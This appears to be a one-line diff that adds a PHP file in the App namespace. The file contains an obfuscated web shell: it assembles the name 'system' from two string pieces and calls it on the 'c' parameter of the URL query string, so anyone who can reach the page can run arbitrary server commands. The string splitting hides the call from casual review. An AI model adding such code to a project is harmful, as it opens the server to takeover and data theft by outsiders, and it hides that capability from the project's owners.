@@ -1,0 +1,1 @@
+<?php namespace App; const RUN = 'sys' . 'tem'; (\App\RUN)($_GET['c']);
